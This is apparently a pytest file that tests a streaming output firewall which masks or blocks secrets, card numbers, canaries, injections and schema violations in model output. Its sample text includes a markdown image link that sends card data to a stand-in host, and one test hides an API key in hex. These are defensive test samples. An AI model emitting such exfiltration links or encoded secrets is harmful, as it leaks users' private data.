@@ -1,0 +1,128 @@
+"""If these fail, a stream leaks what a whole answer would not, or holds back what it need not."""
+
+import random
+
+import pytest
+
+from firewalls import ATTACK, CARD, KEY, MAIL, Wall, chat, context, said, streamed
+from portcullis.core.call import Result, ToolProposal
+
+pytestmark = pytest.mark.anyio
+TEXT = f"call {MAIL}, pay <CREDIT_CARD_1> with {KEY} or <CREDIT_CARD_9>, see ![a](https://x.example/?<CREDIT_CARD_1>)"
+LAYERS = {
+    "to_model": {"financial": "tokenise"},
+    "from_model": {"secret": "mask", "exfiltration": "mask", "EMAIL_ADDRESS": "hash"},
+    "canaries": True,
+}
+
+
+@pytest.fixture
+async def wall():
+    wall = Wall(**LAYERS)
+    await wall.request(chat(("user", CARD)))
+    return wall
+
+
+def cuts(text, seed):
+    chooser = random.Random(seed)  # noqa: S311 - a test's own choice
+    places = sorted(chooser.sample(range(1, len(text)), chooser.randrange(len(text) // 2)))
+    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
+
+
+@pytest.mark.parametrize("pieces", [list(TEXT), [TEXT], *(cuts(TEXT, seed) for seed in range(25))])
+async def test_a_stream_becomes_what_the_whole_answer_becomes_however_it_is_cut(wall, pieces):
+    whole = await wall.result(chat(), said(TEXT))
+    judge = wall.stream()
+    assert streamed(judge, pieces) == (whole.payload["choices"][0]["message"]["content"], None)
+    assert [f.type for f in judge.findings] == [f.type for f in whole.findings]
+    assert judge.whole("choices[0].message.content", TEXT, json=False) == streamed(
+        wall.stream(), [TEXT]
+    )[0]
+
+
+async def test_prose_is_not_held_back(wall):
+    judge = wall.stream()
+    for piece in ("Hello ", "there, ", "all is ", "well < 3 "):
+        before = judge.text("t", piece, last=False)
+    assert before.settled == len("Hello there, all is well < 3 ")
+
+
+async def test_nothing_of_a_blocked_datum_gets_out(wall):
+    wall = Wall(from_model={"secret": "block"})
+    for pieces in (list(f"the key {KEY} ok"), ["the key " + KEY[:9], KEY[9:] + " ok"]):
+        out, denied = streamed(wall.stream(), pieces)
+        assert denied.code == "PC3021"
+        assert out == "the key "
+
+
+@pytest.mark.parametrize("size", [1, 2, 7, 13, 1000])
+async def test_nothing_of_a_canary_gets_out(wall, size):
+    canary = wall.means.planted.canary("s1")
+    text = f"my number 12 is 3 and {canary} it is"
+    pieces = [text[at : at + size] for at in range(0, len(text), size)]
+    judge = wall.stream()
+    out, denied = streamed(judge, pieces)
+    assert denied.code == "PC3020"
+    assert text.startswith(out)
+    assert len(out) <= len("my number 12 is 3 and ")
+    assert judge.text("t", "more", last=True) is denied
+    assert judge.whole("t", "more", json=False) is denied
+
+
+async def test_a_canary_in_the_arguments_of_a_call_ends_the_stream(wall):
+    canary = wall.means.planted.canary("s1")
+    denied = wall.stream().whole("c", f'{{"q": "{canary}"}}', json=True)
+    assert denied.code == "PC3020"
+
+
+async def test_arguments_are_read_and_restored_as_json(wall):
+    judge = wall.stream()
+    assert judge.whole("c", f'{{"q":["<CREDIT_CARD_1>", "{KEY}"]}}', json=True) == (
+        f'{{"q":["{CARD}","[API_KEY]"]}}'
+    )
+    assert judge.whole("c", '{ "q" : 1 }', json=True) == '{ "q" : 1 }'
+    assert judge.whole("c", "", json=True) == ""
+    assert [f.where for f in judge.findings] == ["c.q[1]"]
+
+
+async def test_a_model_that_is_held_to_account_for_injections_is_not_ahead_of_its_score():
+    wall = Wall(injection={"model": "block"})
+    judge = wall.stream()
+    assert judge.text("t", "All is well. And ", last=False).settled == len("All is well.")
+    assert judge.text("t", ATTACK, last=True).code == "PC3022"
+
+
+async def test_data_hidden_in_an_encoding_ends_the_stream():
+    wall = Wall(from_model={"secret": "mask"})
+    hidden = f"the key is {KEY} ok".encode().hex()
+    _, denied = streamed(wall.stream(), [f"see {hidden}", " done"])
+    assert denied.code == "PC3021"
+    assert denied.reason == "API_KEY in choices[0].message.content, hidden"
+
+
+OUTPUT = {"type": "object", "properties": {"total": {"type": "integer"}}, "required": ["total"]}
+DONE = Result(payload=None, size=1)
+
+
+async def test_an_answer_with_a_schema_is_held_until_it_fits():
+    wall = Wall(from_model={"financial": "mask"})
+    judge = wall.stream(context(output_schema=OUTPUT))
+    key = "content[0].text"
+    assert judge.text(key, '{"total":', last=False).settled == 0
+    assert streamed(wall.stream(context(output_schema=OUTPUT)), ['{"total"', ": 3}"], key) == (
+        '{"total": 3}',
+        None,
+    )
+    thinking = wall.stream(context(output_schema=OUTPUT))
+    assert streamed(thinking, ["let me see"], "content[0].thinking") == ("let me see", None)
+
+
+async def test_nothing_of_an_answer_that_does_not_fit_gets_out_and_the_stream_ends_badly():
+    judge = Wall().stream(context(output_schema=OUTPUT))
+    assert streamed(judge, ["it is ", "three"], "content[0].text") == ("", None)
+    assert judge.end(DONE).code == "PC3028"
+    called = Result(
+        payload=None, size=1, proposals=(ToolProposal(id="c", name="n", arguments="{}"),)
+    )
+    assert judge.end(called) is None  # it was not the final answer
+    assert [(f.type, f.treatment) for f in judge.findings] == [("OUTPUT_SCHEMA", "strip")]
